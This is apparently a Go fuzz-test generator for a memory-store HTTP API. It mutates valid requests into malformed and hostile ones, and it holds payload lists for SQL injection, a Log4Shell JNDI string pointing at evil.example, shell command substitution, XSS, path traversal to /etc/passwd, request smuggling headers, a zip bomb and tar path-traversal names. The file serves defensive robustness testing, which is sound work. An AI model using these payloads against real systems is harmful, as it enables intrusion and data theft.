package httpapi_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/url"
	"strings"
	"time"
	"unicode/utf8"

	"memento"
	"memento/backend"
	"memento/httpapi"
)

// A generator makes attacks, the same ones in every run: requests that are right,
// changed in one to three ways, and bytes that may be no requests at all.
type generator struct {
	r         *rand.Rand
	endpoints []httpapi.Endpoint
	world     *world // that is attacked
	foreign   ids    // of another workspace
	key       string
	bomb      []byte // zipped, and much larger than it looks
}

// A draft is a request before it is written.
type draft struct {
	method, path, query string
	headers             []string // pairs
	body                []byte
	rough               bool
}

func pick[T any](g *generator, list ...T) T { return list[g.r.IntN(len(list))] }

func (g *generator) in(n int) bool { return g.r.IntN(n) == 0 }

func (g *generator) next() attack {
	d := g.right()
	if g.in(8) {
		return g.roughly(d)
	}
	for range 1 + g.r.IntN(3) {
		pick(g, g.changeMethod, g.changePath, g.changeID, g.changeID, g.changeQuery, g.changeQuery, g.changeHeaders,
			g.changeBody, g.changeBody, g.changeBody, g.changeBody, g.changeBody)(d)
	}
	// More than the server reads: the answer may be lost with the connection.
	d.rough = d.rough || len(d.body) > 200<<10
	return attack{d.method, d.text(), d.rough}
}

// right is a request that there is nothing wrong with.
func (g *generator) right() *draft {
	e := pick(g, g.endpoints...)
	q := g.world.question(e)
	about := g.world.ids
	if e.Method == "DELETE" && strings.HasSuffix(e.Pattern, "{store}") || strings.HasSuffix(e.Pattern, "/archive") {
		about.store = string(backend.NewStoreID(time.Now())) // so that there remains something to attack
	}
	d := &draft{method: e.Method, path: about.path(e), query: q.query, headers: []string{"Host", "localhost"}}
	if !g.in(20) {
		d.headers = append(d.headers, "x-api-key", g.key)
	}
	switch body := q.body.(type) {
	case nil:
		if e.Method == "POST" && g.in(2) {
			d.body = []byte("{}")
		}
	case string:
		d.body = []byte(body)
	case []byte:
		d.body = body
	default:
		d.body, _ = json.Marshal(body) // maps and strings
	}
	if strings.HasSuffix(e.Pattern, "/tool") {
		d.body = []byte(g.toolInput())
	}
	if strings.HasSuffix(e.Pattern, "/changes") && e.Method == "POST" {
		d.body = []byte(`{"changes":[` + g.change() + `,` + g.change() + `]}`)
	}
	if len(d.body) > 0 && !g.in(10) {
		d.headers = append(d.headers, "Content-Type", "application/json")
	}
	return d
}

func (d *draft) text() []byte {
	var b bytes.Buffer
	target := d.path
	if d.query != "" {
		target += "?" + d.query
	}
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", d.method, target)
	for i := 0; i < len(d.headers); i += 2 {
		fmt.Fprintf(&b, "%s: %s\r\n", d.headers[i], d.headers[i+1])
	}
	if len(d.body) > 0 || d.method == "POST" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(d.body))
	}
	b.WriteString("\r\n")
	b.Write(d.body)
	return b.Bytes()
}

func (g *generator) changeMethod(d *draft) {
	d.method = pick(g, "GET", "HEAD", "POST", "PUT", "PATCH", "OPTIONS", "TRACE", "CONNECT", "get", "Post", "PROPFIND", "G", "GET2",
		"M-SEARCH", "!#$%&'*+.^_`|~", strings.Repeat("A", 1+g.r.IntN(3000)))
	if d.method == "CONNECT" {
		d.rough = true
	}
}

// segments are odd parts of a path, as they stand in a request.
var segments = []string{
	"", ".", "..", "...", "%2e", "%2e%2e", "%2E%2e%2f", "%2f", "%2F%2F", "%5c", `\`, "%00", "a%00b", "%0a", "%0d%0a", "%09", "%20", "+", "%25", "%252e%252e",
	"%ff", "%c0%ae", "%c0%af", "%ed%a0%80", "%f4%90%80%80", "%e2%80%ae", "%ef%bb%bf", "é", "\xff\xfe", "~", ";a=b", ":", "@", "a:b@c", "*", "&", "=", "'", `"`, "<script>",
	"{store}", "{store...}", "{$}", "null", "undefined", "0", "-1", "memstore_", "mem_", "memver_", "apikey_", "memstore_..", "memstore_%2f", "memstore_'OR'1'='1",
	"v1", "admin", "keys", "memories", "by-path", "by-name", "memory_versions", "tool", "changes", "openapi.json", "etc", "passwd", "con", "nul",
}

func (g *generator) changePath(d *draft) {
	parts := strings.Split(d.path, "/")
	for range 1 + g.r.IntN(2) {
		i := g.r.IntN(len(parts))
		switch g.r.IntN(7) {
		case 0:
			parts[i] = pick(g, segments...)
		case 1:
			parts = append(parts[:i:i], append([]string{pick(g, segments...)}, parts[i:]...)...)
		case 2:
			parts[i] += pick(g, segments...)
		case 3:
			parts = append(parts[:i:i], parts[min(i+1, len(parts)):]...)
		case 4:
			parts[i] = strings.ToUpper(parts[i])
		case 5:
			parts[i] = strings.Repeat(pick(g, "a", "/", "%2f", "../", "a/", "%00", "memstore_"), 1+g.r.IntN(2000))
		case 6: // every character escaped, which is the same path
			parts[i] = strings.Map(func(r rune) rune { return r }, escaped(parts[i]))
		}
		if len(parts) == 0 {
			parts = []string{""}
		}
	}
	d.path = strings.Join(parts, "/")
	if !strings.HasPrefix(d.path, "/") && !g.in(4) {
		d.path = "/" + d.path
	}
	if strings.Contains(d.path, "?") || d.path == "" {
		d.path = "/"
	}
}

func escaped(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func (g *generator) changeID(d *draft) {
	w, f := g.world, g.foreign
	for i, id := range []string{w.store, w.memory, w.version, w.key} {
		if strings.Contains(d.path, id) && g.in(2) {
			foreign := []string{f.store, f.memory, f.version, f.key}[i]
			d.path = strings.Replace(d.path, id, pick(g, foreign, foreign, foreign, foreign,
				id[:len(id)-1], id+"x", strings.ToUpper(id), id+"%20", w.memory, w.version, w.store, w.key, id+strings.Repeat("a", g.r.IntN(300)),
				id[:strings.IndexByte(id, '_')+1]+strings.Repeat("z", 26), escaped(id), pick(g, segments...),
			), 1)
			return
		}
	}
}

var queries = []string{
	"page", "limit", "view", "path_prefix", "depth", "include_archived", "created_at[gte]", "created_at[lte]", "name", "memory_id", "operation", "session_id",
	"api_key_id", "user_id", "service_account_id", "query", "after", "path", "peek", "expected_content_sha256", "contents", "contents_only", "overwrite", "brief",
	"oldest_first", "actor_kind", "actor_id", "beta", "dry_run", "unknown", "", "page[]", "order",
}

func (g *generator) changeQuery(d *draft) {
	if g.in(10) {
		d.query = pick(g, "%", "%zz", "=", "&&&", "a=b;c=d", "?", "#", "page", "page=", "%00=%00", "limit=1&limit=2", strings.Repeat("a=b&", 500), strings.Repeat("a", 3000), "\xff=\xff", "a=%ff%fe", "[]=1")
		return
	}
	value := g.word()
	switch g.r.IntN(4) {
	case 0:
		value = url.QueryEscape(value)
	case 1:
		value = "page_" + url.QueryEscape(pick(g, "", "!", "bQ", "c21lbXN0b3JlXw", "dg", "djE", "di0x", "dnh4", "bS8uLg", "bf8", "c//", "bQA", "dg==", strings.Repeat("A", g.r.IntN(5000)), fmt.Sprint(g.r.Int64())))
	default:
		value = (&url.URL{Path: value}).EscapedPath()
	}
	value = strings.NewReplacer(" ", "%20", "\r", "", "\n", "", "\x00", "%00").Replace(value)
	extra := pick(g, queries...) + "=" + value
	if d.query == "" || g.in(3) {
		d.query = extra
		return
	}
	d.query += "&" + extra
}

func (g *generator) changeHeaders(d *draft) {
	name := pick(g, "Content-Type", "Accept", "Accept-Encoding", "Content-Encoding", "Range", "If-Match", "If-None-Match", "If-Modified-Since", "Last-Event-ID", "Memento-Actor",
		"anthropic-workspace-id", "anthropic-beta", "anthropic-version", "X-Stainless-Retry-Count", "Origin", "Access-Control-Request-Method", "X-Forwarded-For", "X-Forwarded-Host",
		"X-HTTP-Method-Override", "Forwarded", "Cookie", "Authorization", "x-api-key", "User-Agent", "Referer", "Via", "TE", "Trailer", "Upgrade", "Connection", "Keep-Alive", "Max-Forwards",
		"X-Original-URL", "X-Rewrite-URL", "Proxy-Authorization", "Sec-Fetch-Site", "traceparent", "Expect", "Date", "From", "Warning", "Content-MD5", "Digest")
	value := pick(g, "", "*", "0", "-1", "9223372036854775808", "bytes=0-0,-1", `"x"`, "W/\"x\"", "application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
		"application/json; charset=utf-16", "application/problem+json", "gzip", "br, zstd", "identity;q=0", "h2c", "websocket", "close", "keep-alive", "Upgrade, HTTP2-Settings", "100-continue", "trailers",
		"null", "http://evil.example", "session/sesn_1", "user/x", "system/", "session/%ff", "a/b/c", "GET", "DELETE", "/v1/admin/keys", "127.0.0.1", "é", "\xff\xfe", "Bearer x", "Basic YTpi",
		"managed-agents-2026-04-01", "agent-memory-2026-07-22", "2023-06-01", g.world.canary(), strings.Repeat("a", g.r.IntN(8000)), strings.Repeat("a,", g.r.IntN(2000)))
	if name == "Expect" || name == "Connection" || value == "close" || name == "Upgrade" {
		d.rough = d.rough || name == "Expect"
	}
	if value == g.world.canary() || name == "x-api-key" && g.in(2) {
		value = strings.Repeat("k", 1+g.r.IntN(100))
	}
	d.headers = append(d.headers, name, value)
	if g.in(20) {
		for i := range 100 {
			d.headers = append(d.headers, fmt.Sprint("X-", i), "x")
		}
	}
}

// words are values that are odd somewhere.
var words = []string{
	"", " ", "0", "1", "-1", "21", "1000000", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e3", "1.5", "0x10", "٣", "NaN", "Infinity", "true", "false", "TRUE", "yes", "null",
	"/", "//", "/a/../b", "/..", "../../etc/passwd", "a", "/a/", "/a//b", "/.git", "/a\x00b", "/é", "/e\u0301", "/\u202e", "/\u200b", "/a\\b", "/%2e%2e/a", "/memories", "/memories/a", "/CON", "/a:b", "/new.md",
	"full", "basic", "FULL", "created", "deleted", "session", "api_key",
	"2026-09-26T12:00:00Z", "2026-09-26 12:00:00", "9999-12-31T23:59:59-23:59", "0000-01-01T00:00:00+23:59", "0001-01-01T00:00:00Z", "99999-01-01T00:00:00Z", "2026-13-45T99:99:99Z", "2026-09-26T12:00:00.123456789123Z", "1767225600",
	"forever", "720h", "-720h", "99999999999h", "1e9h", "1h1h1h", "5 days",
	"' OR '1'='1", "'; DROP TABLE memories; --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%n", "<script>alert(1)</script>", "$(id)", "`id`", "\r\nX-Injected: 1", "\x1b[2J", "__proto__", "constructor",
	"memstore_x", "mem_x", strings.Repeat("a", 64), strings.Repeat("A", 64), strings.Repeat("0", 63),
	"\"", "\"\"", "*", "a OR b", "AND", "NEAR(a b)", "\xed\xa0\x80", "\xff",
}

func (g *generator) word() string {
	switch w := g.world; g.r.IntN(20) {
	case 0:
		return pick(g, w.store, w.memory, w.version, w.key)
	case 1:
		return "/" + w.canary() + pick(g, ".md", ".md/below")
	case 2:
		return strings.Repeat("/a", 1+g.r.IntN(700))
	case 3:
		return "/" + strings.Repeat("x", 1+g.r.IntN(3000))
	case 4:
		return strings.Repeat(pick(g, "a ", "字", "\x00"), g.r.IntN(2000))
	case 5:
		return string([]rune{rune(g.r.IntN(0x110000))})
	}
	return pick(g, words...)
}

// values are JSON, or would like to be.
var values = []string{
	"null", "true", "false", "0", "-0", "1", "-1", "1.0", "1e2", "1.5", "1e400", "-1e400", "9223372036854775807", "9223372036854775808", "18446744073709551616", strings.Repeat("9", 2000), "01", "+1", ".5", "1.", "0x1",
	"NaN", "Infinity", "-Infinity", "undefined", "''", "[]", "{}", "[[]]", `[null]`, `{"a":1}`, `{"":""}`, `[1,"a",{}]`, `"\u0000"`, `"\ud800"`, `"\udc00\ud800"`, `"\\ufffd\ud800"`, `"\ud83d\ude00"`, `"\u00"`, `"\x"`, `"a`, "\"\x01\"", "\"\xff\"", "\"\xed\xa0\x80\"",
	`{"type":"content_sha256","content_sha256":"x"}`, `{"type":"content_sha256"}`, `{"type":"absent"}`, `{"type":7}`, `{"memories":-1}`, `{"memories":0}`, `{"memories":9223372036854775807}`, `{"memory_bytes":1e99}`, `{"sensitive":{"mode":"loud"}}`, `{"sensitive":{"allow":["[","**/","/a{b"]}}`,
	`{"expiry":{"after":"-1h"}}`, `{"retention":{"age":"forever","versions":-1}}`, `{"read_only":["/**","","\u0000"]}`, `{"read_only":` + strings.Repeat("[", 50) + strings.Repeat("]", 50) + `}`,
}

// value is JSON for a word, or for something that is none.
func (g *generator) value() string {
	if g.in(200) {
		return `"` + strings.Repeat("x", g.r.IntN(120_000)) + `"`
	}
	if g.in(3) {
		return pick(g, values...)
	}
	word := g.word()
	if g.in(20) || !utf8.ValidString(word) {
		return `"` + word + `"` // with whatever is in it
	}
	text, _ := json.Marshal(word) // a string
	return string(text)
}

var names = []string{
	"path", "content", "name", "description", "metadata", "limits", "settings", "unique_name", "precondition", "if_updated_at", "changes", "as_of", "dry_run", "before", "keep", "memory_id", "memory_ids",
	"role", "expires_at", "key_sha256", "hint", "id", "grace_seconds", "session_id", "calls", "command", "file_text", "old_str", "new_str", "insert_line", "insert_text", "view_range", "old_path", "new_path",
	"type", "input", "tool_use_id", "if", "from", "Path", "CONTENT", "", "\\u0070ath", "unknown",
}

func (g *generator) toolInput() string {
	inputs := []string{
		`{"command":"view","path":"/memories"}`, `{"command":"view","path":"/memories/a.md","view_range":[1,-1]}`, `{"command":"create","path":"/memories/a.md","file_text":"a\nb\n"}`,
		`{"command":"str_replace","path":"/memories/a.md","old_str":"a","new_str":"c"}`, `{"command":"insert","path":"/memories/a.md","insert_line":0,"insert_text":"x"}`,
		`{"command":"delete","path":"/memories/a.md"}`, `{"command":"rename","old_path":"/memories/a.md","new_path":"/memories/b/c.md"}`,
	}
	one := func() string {
		input := pick(g, inputs...)
		if g.in(3) {
			return input[:len(input)-1] + `,"` + pick(g, names...) + `":` + g.value() + `}`
		}
		if g.in(3) {
			return `{"command":` + g.value() + `,"path":` + g.value() + `}`
		}
		if g.in(2) {
			return `{"type":"tool_use","id":"toolu_1","name":"memory","input":` + input + `}`
		}
		return input
	}
	switch g.r.IntN(4) {
	case 0:
		return "[" + one() + "," + one() + "]"
	case 1:
		return `{"session_id":` + pick(g, `"sesn_1"`, g.value()) + `,"calls":[` + one() + `,` + one() + `]}`
	}
	return one()
}

func (g *generator) change() string {
	path := func() string { return pick(g, `"/a.md"`, `"/b/c.md"`, `"/b"`, g.value()) }
	condition := pick(g, "", "", `,"if":{"type":"absent"}`, `,"if":{"type":"content_sha256","content_sha256":"`+strings.Repeat("0", 64)+`"}`, `,"if":`+g.value())
	switch g.r.IntN(4) {
	case 0:
		return `{"type":"remove","path":` + path() + condition + `}`
	case 1:
		return `{"type":"move","from":` + path() + `,"path":` + path() + condition + `}`
	case 2:
		return `{"type":` + g.value() + `,"path":` + path() + `}`
	}
	return `{"type":"put","path":` + path() + `,"content":` + pick(g, `"text"`, g.value()) + condition + `}`
}

func (g *generator) changeBody(d *draft) {
	if strings.HasSuffix(d.path, "/import") && g.in(2) {
		d.body = g.archive(d.body)
		return
	}
	object := bytes.HasPrefix(d.body, []byte("{")) && bytes.HasSuffix(d.body, []byte("}"))
	switch n := g.r.IntN(20); {
	case n < 7:
		d.body = []byte(g.fittingBody(d.path))
	case n < 11 && object: // one more member, or one in place of another
		inside := string(d.body[1 : len(d.body)-1])
		if g.in(2) && inside != "" {
			inside += ","
		} else if g.in(2) {
			inside = ""
		}
		d.body = []byte("{" + inside + `"` + pick(g, names...) + `":` + g.value() + "}")
	case n < 16 && len(d.body) > 0: // the text itself
		b := bytes.Clone(d.body)
		i, j := g.r.IntN(len(b)), g.r.IntN(len(b))
		switch g.r.IntN(6) {
		case 0:
			b = b[:i]
		case 1:
			b[i] ^= 1 << g.r.IntN(8)
		case 2:
			b = append(b[:min(i, j):min(i, j)], b[max(i, j):]...)
		case 3:
			b = append(b, b[min(i, j):max(i, j)]...)
		case 4:
			b[i] = byte(g.r.IntN(256))
		case 5:
			b = append(b[:i:i], append([]byte(g.value()), b[i:]...)...)
		}
		d.body = b
	default:
		d.body = []byte(g.wholeBody())
	}
}

// bodies have nothing to do with any endpoint.
var bodies = []string{
	"", " ", "null", "true", "0", `""`, "[]", "{}", "[{}]", "[null]", "[[]]", "{", "}", "[", `{"`, `{"a"`, `{"a":`, `{"a":1`, `{"a":1,`, `{"a":1,}`, "{}{}", "{} x", "{}\x00", "// {}", "{'a':1}", "{a:1}", "\xef\xbb\xbf{}", "\xff\xfe{\x00}\x00", "\x00", "\xff", "<xml/>", "a=b&c=d", "--x\r\n\r\n--x--",
	`{"path":"/a.md","path":"/b.md","content":"x"}`, `{"path":"/a.md","content":"x","\u0063ontent":"y"}`, `{"path":"/a.md","content":"\ud800"}`, `{"path":"/a.md","content":"\\ufffd\udfff"}`, "{\"path\":\"/a.md\",\"content\":\"\xed\xa0\x80\"}", `{"path":"/a.md","content":7}`, `{"path":["/a.md"],"content":{}}`,
}

// forms are bodies with places for odd values, by the end of the path that they fit.
var forms = map[string][]string{
	"/memory_stores": {`{"name":?}`, `{"name":"a","metadata":?}`, `{"name":"a","limits":?}`, `{"name":"a","settings":?}`, `{"name":"a","description":?,"unique_name":?}`},
	"/by-name":       {`{"name":?}`, `{"name":"a","metadata":?}`},
	"/settings":      {`{"settings":?}`, `{"limits":?}`, `{"settings":{"read_only":?},"limits":{"memories":?}}`, `{"settings":{"expiry":?,"retention":?,"sensitive":?}}`},
	"/memories":      {`{"path":?,"content":?}`, `{"path":?}`, `{"path":"/new.md","content":?}`},
	"/restore":       {`{"as_of":?}`, `{"as_of":?,"dry_run":?}`, `{"as_of":?,"dry_run":true}`},
	"/undo":          {`{"since":?,"session_id":?}`, `{"since":"2000-01-01T00:00:00Z","actor":?}`, `{"since":"2000-01-01T00:00:00Z","actor":{"kind":?,"id":?},"dry_run":true}`, `{"since":?,"until":?,"api_key_id":"x"}`},
	"/prune":         {`{"before":?}`, `{"before":"2000-01-01T00:00:00Z","keep":?,"memory_id":?}`, `{"before":?,"dry_run":true}`},
	"/reads":         {`{"memory_ids":?}`, `{"memory_ids":[?,?]}`},
	"/keys":          {`{"name":"k","role":"read","expires_at":?}`, `{"name":?,"role":"read"}`, `{"name":"k","role":?}`, `{"name":"k","role":"read","key_sha256":?,"hint":?}`, `{"name":"k","role":"read","key_sha256":"` + strings.Repeat("0", 64) + `","id":?}`},
	"/rotate":        {`{"grace_seconds":?}`},
	"":               {`{"content":?,"precondition":?}`, `{"content":"x","precondition":{"type":"content_sha256","content_sha256":?}}`, `{"path":?}`, `{"path":?,"content":?}`, `{"if_updated_at":?}`, `{"name":?}`, `{"metadata":{"a":?}}`, `{"limits":{"memory_bytes":?}}`},
}

// fittingBody is a body for a path, with values that need not be.
func (g *generator) fittingBody(path string) string {
	end := path[strings.LastIndexByte(path, '/')+1:]
	switch end {
	case "tool":
		return g.toolInput()
	case "changes":
		return `{"changes":[` + g.change() + `]}`
	case "history":
		return g.historyLines()
	}
	fitting := forms["/"+end]
	if fitting == nil {
		fitting = forms[""]
	}
	var b strings.Builder
	for i, part := range strings.Split(pick(g, fitting...), "?") {
		if i > 0 {
			b.WriteString(g.value())
		}
		b.WriteString(part)
	}
	return b.String()
}

// wholeBody is a body that need not have to do with the endpoint.
func (g *generator) wholeBody() string {
	switch g.r.IntN(10) {
	case 0:
		return g.costlyBody()
	case 1, 2, 3:
		return g.fittingBody("/" + pick(g, "tool", "changes", "history", "keys", "memories", ""))
	}
	return pick(g, bodies...)
}

func (g *generator) costlyBody() string {
	deep := 1 + g.r.IntN(100_000)
	switch g.r.IntN(16) {
	case 0:
		return strings.Repeat("[", deep)
	case 1:
		return strings.Repeat("[", deep) + strings.Repeat("]", deep)
	case 2:
		return strings.Repeat(`{"a":`, deep/5)
	case 3:
		return `{"metadata":` + strings.Repeat(`{"a":`, deep/5) + "1" + strings.Repeat("}", deep/5) + "}"
	case 4:
		return `{"calls":` + strings.Repeat("[", deep) + strings.Repeat("]", deep) + "}"
	case 5:
		return `{"changes":[` + strings.Repeat(`{"type":"put"},`, deep/15) + `{}]}`
	case 6:
		return `{"path":"/a.md","content":"` + strings.Repeat("x", 2*deep) + `"}`
	case 7:
		return `{"path":"/a.md","content":"` + strings.Repeat(`\u0000`, deep/3) + `"}`
	case 8:
		return `{"memory_ids":[` + strings.Repeat(`"",`, deep/3) + `""]}`
	case 9:
		return "[" + strings.Repeat(`{"command":"view","path":"/memories"},`, 101) + "{}]"
	case 10:
		return "{" + strings.Repeat(`"a":1,`, deep/6) + `"b":1}`
	case 11:
		return `{"` + strings.Repeat("k", deep) + `":1}`
	case 12:
		return strings.Repeat(`{"type":"end"}`+"\n", 1+deep/100)
	case 13:
		return strings.Repeat("x", 300<<10)
	case 14:
		return `"` + strings.Repeat(`\`, deep)
	}
	return strings.Repeat(" ", deep) + "{}"
}

// historyLines is a history to import, with something wrong in it.
func (g *generator) historyLines() string {
	line := func() string {
		return `{"type":"memory_version","id":` + pick(g, `"memver_a"`, g.value()) + `,"memory_id":` + pick(g, `"mem_a"`, g.value()) + `,"operation":` + pick(g, `"created"`, `"modified"`, `"deleted"`, g.value()) +
			`,"path":` + pick(g, `"/a.md"`, g.value()) + `,"content":` + pick(g, `"a"`, g.value()) + `,"content_sha256":` + pick(g, `"`+memento.HashContent("a")+`"`, g.value()) +
			`,"created_at":` + pick(g, `"2026-01-01T00:00:00Z"`, `"2026-01-01T00:00:00Z"`, g.value()) + `,"created_by":` + pick(g, "null", `{"type":"session_actor","session_id":"x"}`, g.value()) +
			`,"redacted_at":` + pick(g, "null", "null", g.value()) + `}` + "\n"
	}
	return line() + pick(g, "", line(), "\n\n") + pick(g, "", `{"type":"end"}`, `{"type":"end"}`+"\n", `{"type":"end"}`+"\n"+line())
}

// archive is an archive with something wrong in it.
func (g *generator) archive(whole []byte) []byte {
	if len(whole) < 20 {
		return whole
	}
	b := bytes.Clone(whole)
	switch g.r.IntN(6) {
	case 0:
		return b[:g.r.IntN(len(b))]
	case 1:
		b[g.r.IntN(len(b))] ^= 1 << g.r.IntN(8)
		return b
	case 2:
		return append(b, b...)
	case 3:
		return g.bomb
	}
	z, err := gzip.NewReader(bytes.NewReader(whole))
	if err != nil {
		return b
	}
	tar, err := io.ReadAll(z)
	if err != nil {
		return b
	}
	switch g.r.IntN(3) {
	case 0:
		tar = tar[:g.r.IntN(len(tar))]
	case 1:
		for range 1 + g.r.IntN(5) {
			tar[g.r.IntN(len(tar))] = byte(g.r.IntN(256))
		}
	case 2: // another name, of the same length
		tar = bytes.ReplaceAll(tar, []byte("imported.md"), []byte(pick(g, "../../ups.md", "/absolute.md", "a\x00bcdefghij", "a//b//c//d/", "..........."))[:11])
	}
	return zipped(tar)
}

// roughly turns a request into bytes that may be none.
func (g *generator) roughly(d *draft) attack {
	text := d.text()
	head, body, _ := strings.Cut(string(text), "\r\n\r\n")
	auth := "Host: localhost\r\nx-api-key: " + g.key + "\r\nContent-Type: application/json\r\n"
	post := "POST /v1/memory_stores/" + g.world.store + "/memories HTTP/1.1\r\n" + auth
	long := strings.Repeat("a", 1+g.r.IntN(20_000))
	switch g.r.IntN(12) {
	case 0: // noise
		text = make([]byte, g.r.IntN(500))
		for i := range text {
			text[i] = byte(g.r.IntN(256))
		}
	case 1:
		for range 1 + g.r.IntN(4) {
			text[g.r.IntN(len(text))] = byte(g.r.IntN(256))
		}
	case 2:
		text = text[:g.r.IntN(len(text))]
	case 3:
		i := g.r.IntN(len(text))
		text = append(text[:i:i], append([]byte(pick(g, "\r\n", "\n", "\r", "\x00", " ", "\t", ":", "\r\n\r\n", "\r\n ", long)), text[i:]...)...)
	case 4:
		text = []byte(head + "\r\n" + pick(g, "Content-Length: 5", "Content-Length: -1", "Content-Length: +5", "Content-Length: 0x5", "Content-Length: 5, 5", "Content-Length: 99999999999999999999", "Content-Length: 1000000000000", "Content-Length : 5", "Content-Length:",
			"Transfer-Encoding: chunked", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: identity", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding : chunked", "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: xchunked") + "\r\n\r\n" + body)
	case 5:
		chunks := pick(g, "5\r\nhello\r\n0\r\n\r\n", "5\r\nhel", "zz\r\nhello\r\n", "-5\r\nhello\r\n", "FFFFFFFFFFFFFFFF\r\nx", "5;"+long+"\r\nhello\r\n0\r\n\r\n", "5\nhello\n0\n\n", "0\r\nX-Trailer: "+long+"\r\n\r\n", "5\r\nhelloworld\r\n0\r\n\r\n", "\r\n\r\n", strings.Repeat("1\r\n{\r\n", 3000), strings.Repeat("1;"+strings.Repeat("e", 100)+"\r\n{\r\n", 1000))
		text = []byte(post + "Transfer-Encoding: chunked\r\n" + pick(g, "", "Trailer: X-Trailer\r\n", "Content-Length: 5\r\n") + "\r\n" + chunks)
	case 6:
		text = []byte(head + "\r\n" + pick(g, " folded", "no colon", ": no name", "Na me: x", "Name : x", "N\x00ame: x", "Name: a\x00b", "N\xffme: x", "Name: \x7f", "Host: evil.example", "Connection: x-api-key", "Name: "+long, strings.Repeat("A: b\r\n", 3000)+"C: d", "Expect: 100-continue", "Expect: something", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk") + "\r\n\r\n" + body)
	case 7:
		text = []byte(pick(g, "GET /", "GET /\r\n\r\n", "GET / HTTP/0.9\r\n\r\n", "GET / HTTP/1.2\r\n"+auth+"\r\n", "GET / HTTP/2.0\r\n"+auth+"\r\n", "GET / HTTP/9.9\r\n"+auth+"\r\n", "GET / HTTP/1.1x\r\n"+auth+"\r\n", "GET  / HTTP/1.1\r\n"+auth+"\r\n", "GET / x HTTP/1.1\r\n"+auth+"\r\n", "GET /v1/whoami HTTP/1.0\r\n"+auth+"\r\n",
			"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "OPTIONS * HTTP/1.1\r\n"+auth+"\r\n", "GET * HTTP/1.1\r\n"+auth+"\r\n", " GET / HTTP/1.1\r\n"+auth+"\r\n", "\r\n\r\n\r\nGET /v1/whoami HTTP/1.1\r\n"+auth+"\r\n", "SSH-2.0-x\r\n", "EHLO x\r\n", "*1\r\n$4\r\nPING\r\n"))
	case 8:
		text = []byte("GET " + pick(g, "http://localhost/v1/whoami", "http://evil.example/v1/whoami", "http://[::1/v1", "http:///v1/whoami", "https://localhost:99999/v1/whoami", "ftp://localhost/", "//localhost/v1/whoami", "localhost:443", "?a", "#a", "/%", "/%zz", "/"+long, "/\x00", "/\xff", "/a b", "\\", "file:///etc/passwd", "javascript:alert(1)") + " HTTP/1.1\r\n" + auth + "\r\n")
	case 9: // several at once
		text = []byte("GET /v1/whoami HTTP/1.1\r\n" + auth + "\r\n" + post + "Content-Length: 2\r\n\r\n{}" + "GET /v1/nothing HTTP/1.1\r\n" + auth + "\r\n")
	case 10:
		text = []byte(post + fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(body)+1+g.r.IntN(1000), body)) // more is promised than comes
	case 11:
		text = []byte(post + fmt.Sprintf("Content-Length: %d\r\n\r\n%s", g.r.IntN(len(body)+1), body)) // more comes than was promised
	}
	return attack{"GET", text, true}
}
